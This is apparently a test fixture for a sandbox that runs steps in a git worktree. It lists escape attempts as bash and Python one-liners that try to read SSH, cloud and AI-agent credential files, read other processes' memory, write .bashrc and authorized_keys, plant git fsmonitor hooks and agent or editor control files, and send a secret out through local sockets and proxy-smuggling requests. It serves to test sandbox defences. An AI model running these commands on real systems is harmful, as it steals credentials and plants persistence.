"""Escapes from a sandbox: scripts that print the secret, change what is outside, or reach a server.

Each is a script of bash that runs as a step. `{name}` stands for an attribute of the yard. Its `kind` says
what shows that it got out: `reads` prints the secret; `writes` changes files outside; `reaches` sends the
secret to a server; `runs` leaves something behind that runs when a user looks at the worktree; `prints`
prints ESCAPED when a system call was permitted; `kills` ends a process outside.
"""

from typing import NamedTuple


class Escape(NamedTuple):
    name: str
    kind: str
    script: str
    mode: str = "files"
    as_root: bool = False
    needs: str = ""


_PTRACE = """
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
if libc.ptrace(16, {victim}, 0, 0) == 0:
    print("ESCAPED")
    libc.ptrace(17, {victim}, 0, 0)
"""
_READ_MEMORY = """
import ctypes
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
start = int(open("/proc/{victim}/maps").readline().split("-")[0], 16)
buffer = ctypes.create_string_buffer(64)
local, remote = iovec(ctypes.addressof(buffer), 64), iovec(start, 64)
libc = ctypes.CDLL(None)
if libc.process_vm_readv({victim}, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
    print("ESCAPED")
"""
_SEND = 'import socket; s = socket.socket({family}); s.connect({address}); s.sendall(b"{secret}")'
_DATAGRAM = (
    'import socket; s = socket.socket(type=socket.SOCK_DGRAM); s.sendto(b"{secret}", ("{host}", {port}))'
)
_EVIL = 'git -C {folder} config core.fsmonitor "touch {outside}/RAN; false"'
_THROUGH_PROXY = """
import os, socket, urllib.parse
proxy = urllib.parse.urlsplit(os.environ.get("HTTP_PROXY", "http://127.0.0.1:{direct}"))
s = socket.create_connection((proxy.hostname, proxy.port), 3)
s.settimeout(3)
s.sendall({request})
try:
    while s.recv(1000): pass
except OSError: pass
"""


def _home(path: str) -> Escape:
    return Escape(f"read ~/{path}", "reads", f"cat ~/{path}")


def _python(text: str) -> str:
    return f"python3 - <<'END' || true\n{text}\nEND\n"


def _proxy(name: str, request: str) -> Escape:
    text = _THROUGH_PROXY.replace("{request}", request)
    return Escape(f"proxy: {name}", "reaches", _python(text), "files+net")


SECRET_FILES = (
    ".ssh/id_ed25519", ".aws/credentials", ".config/gh/hosts.yml", ".netrc", ".gnupg/private.key",
    ".docker/config.json", ".kube/config", ".npmrc", ".bash_history", ".cargo/credentials.toml",
    ".git-credentials", ".pypirc", ".local/share/keyrings/login.keyring", ".mozilla/logins.json",
    ".config/gcloud/credentials.db", ".claude/.credentials.json", ".codex/auth.json",
)  # fmt: skip
ESCAPES = (
    *map(_home, SECRET_FILES),
    # Reads by other ways.
    Escape("read by search", "reads", "find ~ -type f -exec cat {{}} + 2>/dev/null"),
    Escape("read by ..", "reads", "cat ../../{home_name}/.ssh/id_ed25519; cat {home}/.ssh/id_ed25519"),
    Escape("read by a link", "reads", "ln -s {home}/.ssh keys; cat keys/id_ed25519"),
    Escape("read by a hard link", "reads", "ln {home}/.ssh/id_ed25519 key; cat key"),
    Escape("read by the root of this process", "reads", "cat /proc/self/root{home}/.ssh/id_ed25519"),
    Escape("read by the root of another", "reads", "cat /proc/{victim}/root{home}/.ssh/id_ed25519"),
    Escape("read by the folder of another", "reads", "cat /proc/{victim}/cwd/.ssh/id_ed25519"),
    Escape("read an open file of another", "reads", "cat /proc/{victim}/fd/0"),
    Escape("read the variables of another", "reads", "tr '\\0' '\\n' < /proc/{victim}/environ"),
    Escape("read the arguments of all", "reads", "cat /proc/*/cmdline | tr '\\0' '\\n'"),
    Escape("read logs of other runs", "reads", "cat {state}/runs/*/logs/*.log"),
    Escape("read the settings", "reads", "cat {config}/config.yaml"),
    Escape("read temporary files", "reads", "cat {temporary}/token"),
    Escape("read the passwords", "prints", "test -s /etc/shadow && echo ESCAPED", as_root=True),
    Escape("read another's memory", "prints", _python(_READ_MEMORY)),
    Escape("trace another", "prints", _python(_PTRACE)),
    # Writes.
    Escape("write ~/.bashrc", "writes", "echo evil >> ~/.bashrc"),
    Escape("write ~/.ssh/authorized_keys", "writes", "echo evil >> ~/.ssh/authorized_keys"),
    Escape("write a start file", "writes", "mkdir -p ~/.config/autostart; echo evil > ~/.config/autostart/x"),
    Escape("write a program of PATH", "writes", "echo evil > {home}/.local/bin/git"),
    Escape("write a user's package", "writes", "echo evil > {checkout}/.venv/lib/evil.py"),
    Escape("write beside the worktree", "writes", "echo evil > ../evil"),
    Escape("write to the checkout", "writes", "echo evil > {checkout}/a.txt"),
    Escape("delete the checkout", "writes", "rm -f {checkout}/a.txt"),
    Escape("write temporary files", "writes", "echo evil > {temporary}/evil"),
    Escape("write shared memory", "writes", "echo evil > {shared}/evil"),
    Escape("write by a link", "writes", "ln -s {home} h; echo evil > h/evil"),
    Escape("write by the root of another", "writes", "echo evil > /proc/{victim}/root{home}/evil"),
    Escape("write to the history", "writes", "echo evil > {state}/evil"),
    Escape("write to its own log", "writes", 'echo evil > "$PRUNEJUICE_ARTIFACT_DIR/logs/evil"'),
    Escape("write an order", "writes", 'mkdir -p "$PRUNEJUICE_ARTIFACT_DIR/temp"; '
           'echo evil > "$PRUNEJUICE_ARTIFACT_DIR/temp/evil.order"'),
    Escape("write to the system", "writes", "echo evil > /usr/local/lib/{name}", as_root=True),
    Escape("write a kernel setting", "prints",
           "cat /proc/sys/vm/swappiness > /proc/sys/vm/swappiness && echo ESCAPED", as_root=True),
    Escape("name the host", "prints", 'hostname "$(hostname)" && echo ESCAPED', as_root=True, needs="hostname"),
    Escape("make a device", "prints",
           "mknod disk b 7 0 && echo ESCAPED", as_root=True, needs="mknod"),
    Escape("mount", "prints", "mkdir m; mount -t tmpfs x m && echo ESCAPED; umount m", as_root=True, needs="mount"),
    Escape("unmount what protects", "writes",
           "umount {git}/config; mount -o remount,rw {git}; echo evil >> {git}/config"),
    Escape("unmount in a namespace", "writes",
           "unshare -Urm sh -c 'umount {git}/config; mount -o remount,rw {git}; echo evil >> {git}/config' "
           "|| unshare -m sh -c 'echo evil >> {git}/config'", needs="unshare"),
    Escape("enter another namespace", "reads",
           "nsenter -t {victim} -m cat {home}/.ssh/id_ed25519", as_root=True, needs="nsenter"),
    Escape("change the root", "reads",
           "chroot /proc/{victim}/root cat {home}/.ssh/id_ed25519", as_root=True, needs="chroot"),
    Escape("outlive the step", "writes",
           "env -i setsid sh -c 'sleep 1; echo evil > {outside}/evil' </dev/null >/dev/null 2>&1 & sleep 0.1"),
    Escape("kill another", "kills", "kill -9 {victim}"),
    Escape("share memory with others", "prints",
           "ipcs -m | grep -q {segment} && echo ESCAPED", needs="ipcs"),
    # The repository.
    Escape("git: settings", "writes", "git config core.fsmonitor evil"),
    Escape("git: settings by hand", "writes", "echo '[core]' >> {git}/config"),
    Escape("git: hook", "writes", "mkdir -p {git}/hooks; echo evil > {git}/hooks/pre-commit"),
    Escape("git: attributes", "writes", "mkdir -p {git}/info; echo '* filter=evil' > {git}/info/attributes"),
    Escape("git: delete objects", "writes", "rm -rf {git}/objects"),
    Escape("git: objects elsewhere", "writes", "mv {git}/objects {git}/o; ln -s {home} {git}/objects"),
    Escape("git: move a branch", "writes", "git update-ref refs/heads/main $(git commit-tree -m x HEAD^{{tree}})"),
    Escape("git: delete a branch", "writes", "git branch -D other"),
    Escape("git: tag", "writes", "git tag evil"),
    Escape("git: packed refs", "writes", "echo evil > {git}/packed-refs"),
    Escape("git: alternates", "writes", "echo /tmp > {git}/objects/info/alternates"),
    Escape("git: settings of the worktree", "runs",
           "git config --worktree core.fsmonitor 'touch {outside}/RAN; false'"),
    Escape("git: another git directory", "runs",
           "git init -q --bare evil; git -C evil config core.bare false; git -C evil config core.worktree ..; "
           + _EVIL.replace("{folder}", "evil") + '; printf "gitdir: $PWD/evil\\n" > .git'),
    Escape("git: a common directory", "runs",
           "git init -q --bare evil; " + _EVIL.replace("{folder}", "evil")
           + '; echo "$PWD/evil" > "$(git rev-parse --git-dir)/commondir"'),
    Escape("git: a nested repository", "runs", "git init -q sub; " + _EVIL.replace("{folder}", "sub")),
    Escape("git: a nested bare repository", "runs",
           "git init -q --bare sub; git -C sub config core.bare false; git -C sub config core.worktree ..; "
           + _EVIL.replace("{folder}", "sub")),
    Escape("git: a nested .git file", "runs",
           "mkdir sub; git init -q --bare evil; git -C evil config core.bare false; "
           + _EVIL.replace("{folder}", "evil") + '; git -C evil config core.worktree ../sub; '
           'printf "gitdir: ../evil\\n" > sub/.git'),
    # Control files.
    Escape("control: .envrc", "writes", "echo evil > .envrc"),
    Escape("control: hooks of an agent", "writes", "mkdir .claude; echo evil > .claude/settings.json"),
    Escape("control: tasks of an editor", "writes", "mkdir .vscode; echo evil > .vscode/tasks.json"),
    Escape("control: a workflow", "writes", "mkdir -p .github/workflows; echo evil > .github/workflows/x.yml"),
    Escape("control: nested", "writes", "mkdir deep; echo evil > deep/.envrc"),
    Escape("control: our commands", "writes", "echo evil >> .prj/commands/t.yaml"),
    Escape("control: a folder renamed", "writes", "mv .prj old; mkdir .prj; echo evil > .prj/config.yaml"),
    Escape("control: a server of tools", "writes", "echo evil > .mcp.json"),
    Escape("control: a parent renamed", "writes", "git mv .gitignore i; mv .prj/commands c; mkdir .prj/commands 2>/dev/null; "
           "mv .prj p; mkdir -p .prj/commands; echo evil > .prj/commands/t.yaml"),
    Escape("control: moved from elsewhere", "writes", "mkdir tpl; echo evil > tpl/settings.json; mv tpl .claude"),
    # What others do with the files that a process left.
    Escape("left: a link in place of a folder", "writes",
           'n=$(basename "$PRUNEJUICE_OUTPUT" .out); mkdir -p "$PRUNEJUICE_ARTIFACT_DIR/refused"; '
           'ln -s ~ "$PRUNEJUICE_ARTIFACT_DIR/refused/$n"; echo evil > .bashrc; mkdir {outside}/x 2>/dev/null; '
           "cp .bashrc {home}/.bashrc"),
    Escape("left: a link in place of an output", "writes",
           'rm -f "$PRUNEJUICE_OUTPUT"; ln -s {home}/.profile "$PRUNEJUICE_OUTPUT"; echo evil > "$PRUNEJUICE_OUTPUT"; '
           'rm "$PRUNEJUICE_OUTPUT"'),
    Escape("left: a link in place of a log of git", "writes",
           "g=$(git rev-parse --git-dir); echo x > n; git add n; git commit -qm x; rm -f $g/logs/HEAD; "
           "ln -s {home}/.zshrc $g/logs/HEAD; echo y > n; git commit -qam y"),
    Escape("left: the branch of others", "writes", "git symbolic-ref HEAD refs/heads/main; echo evil > a.txt; "
           "git add a.txt; git commit -qm evil"),
    Escape("left: a control file in a commit", "runs",
           "git config --worktree core.fsmonitor 'touch {outside}/RAN; false' || "
           "printf '[core]\n\tfsmonitor = \"touch {outside}/RAN; false\"\n' > $(git rev-parse --git-dir)/config.worktree"),
    Escape("left: a repository in two halves", "runs",
           "mkdir -p sub xx/objects xx/refs; git init -q tmpr; cp tmpr/.git/HEAD sub/HEAD; rm -rf tmpr; "
           "echo ../xx > sub/commondir; printf '[core]\n\trepositoryformatversion = 1\n\tfsmonitor = "
           "\"touch {outside}/RAN; false\"\n[extensions]\n\tworktreeConfig = true\n' > xx/config; "
           "printf '[core]\n\tbare = false\n\tworktree = ..\n' > sub/config.worktree"),
    # Sockets.
    Escape("socket in the home folder", "reaches",
           _python(_SEND.format(family="socket.AF_UNIX", address='"{socket}"', secret="{secret}"))),
    Escape("socket in a temporary folder", "reaches",
           _python(_SEND.format(family="socket.AF_UNIX", address='"{temporary_socket}"', secret="{secret}"))),
    Escape("socket in the checkout", "reaches",
           _python(_SEND.format(family="socket.AF_UNIX", address='"{checkout_socket}"', secret="{secret}"))),
    Escape("socket without a path", "reaches",
           _python(_SEND.format(family="socket.AF_UNIX", address='"\\0{name}"', secret="{secret}")), "files+net"),
    Escape("tmux", "writes", "tmux -S {tmux} run-shell 'echo evil > {outside}/evil'", needs="tmux"),
    Escape("keys of an agent", "reads", "SSH_AUTH_SOCK={agent} ssh-add -l", needs="ssh-agent"),
    # The network.
    Escape("net: this machine", "reaches",
           _python(_SEND.format(family="", address='("127.0.0.1", {port})', secret="{secret}")), "files+net"),
    Escape("net: this machine, IPv6", "reaches",
           _python(_SEND.format(family="socket.AF_INET6", address='("::1", {port6})', secret="{secret}")),
           "files+net", needs="ipv6"),
    Escape("net: datagrams", "reaches",
           _python(_DATAGRAM.format(host="127.0.0.1", port="{udp}", secret="{secret}")), "files+net"),
    Escape("net: own address", "reaches",
           _python(_SEND.format(family="", address='("{address}", {port})', secret="{secret}")), "files+net"),
    _proxy("by address", 'b"GET http://127.0.0.1:{port}/{secret} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"'),
    _proxy("by name", 'b"GET http://localhost:{port}/{secret} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"'),
    _proxy("by a number", 'b"GET http://2130706433:{port}/{secret} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"'),
    _proxy("by octal numbers", 'b"GET http://0177.0.0.1:{port}/{secret} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"'),
    _proxy("by hexadecimal numbers", 'b"GET http://0x7f.1:{port}/{secret} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"'),
    _proxy("by a mapped address",
           'b"CONNECT [::ffff:127.0.0.1]:{port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n{secret}"'),
    _proxy("CONNECT", 'b"CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n{secret}"'),
    _proxy("another port", 'b"CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\nHost: 127.0.0.1:{allowed}\\r\\n\\r\\n{secret}"'),
    _proxy("a user name", 'b"GET http://127.0.0.1:{allowed}@127.0.0.1:{port}/{secret} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"'),
    _proxy("a line break in the target",
           'b"CONNECT 127.0.0.1:{port}\\n.example.org:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n{secret}"'),
    _proxy("a NUL in the target",
           'b"CONNECT 127.0.0.1:{port}\\0.example.org:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n{secret}"'),
    _proxy("a second request",
           'b"GET http://127.0.0.1:{allowed}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'
           'GET http://127.0.0.1:{port}/{secret} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"'),
)  # fmt: skip
